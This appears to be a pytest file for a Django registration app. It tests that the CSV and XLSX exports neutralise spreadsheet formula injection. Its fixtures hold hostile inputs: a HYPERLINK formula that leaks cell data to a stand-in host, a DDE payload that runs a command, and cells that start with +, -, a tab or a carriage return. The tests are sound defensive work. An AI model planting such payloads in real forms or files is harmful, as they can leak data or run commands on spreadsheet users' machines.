"""The coordinators' exports: hostile registrations never turn into spreadsheet formulas."""

import csv
import io
from datetime import datetime

import pytest
from django.contrib.auth.models import Group
from openpyxl import load_workbook

from programs.models import Registration

from .test_registration_views import form_data

pytestmark = pytest.mark.django_db

INDEX = "/admin/programs_registration/"
HOSTILE = {
    "city": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "organisation": "+1+2",
    "job_title": "-2+3",
}


@pytest.fixture
def coordinator_client(client, django_user_model):
    user = django_user_model.objects.create_user("coordinator", password="x")
    user.groups.add(Group.objects.get(name="Training coordinators"))
    client.force_login(user)
    return client


@pytest.fixture
def hostile_registrations(client, course):
    # Typed into the public form, as an attacker would...
    assert client.post(course.url, form_data(**HOSTILE)).status_code == 302
    dde = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert client.post(course.url, form_data(email="at@example.org", city=dde)).status_code == 302
    # ...and what the form's trimming cannot bring in, but an older row or another path might hold.
    row = Registration.objects.get(email="at@example.org")
    Registration.objects.filter(pk=row.pk).update(organisation="\t=1+2", job_title="\r=1+2")
    return course


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_neutralises_every_cell_that_a_spreadsheet_would_run(coordinator_client, hostile_registrations):
    rows = _csv_rows(coordinator_client.get(INDEX + "?export=csv"))

    cells = [value for row in rows for value in row.values()]
    assert "'" + HOSTILE["city"] in cells
    assert "'+1+2" in cells and "'-2+3" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'\t=1+2" in cells and "'\r=1+2" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_export_keeps_harmless_cells_as_they_were(coordinator_client, hostile_registrations):
    rows = _csv_rows(coordinator_client.get(INDEX + "?export=csv"))

    cells = [value for row in rows for value in row.values()]
    assert "Layla Ahmad" in cells and "layla@example.org" in cells and "ليلى أحمد" in cells


def test_xlsx_export_keeps_text_as_text_and_its_other_types(coordinator_client, hostile_registrations):
    response = coordinator_client.get(INDEX + "?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert HOSTILE["city"] in texts and "+1+2" in texts
    assert any(isinstance(cell.value, bool) for cell in cells)
    assert any(isinstance(cell.value, datetime) for cell in cells)
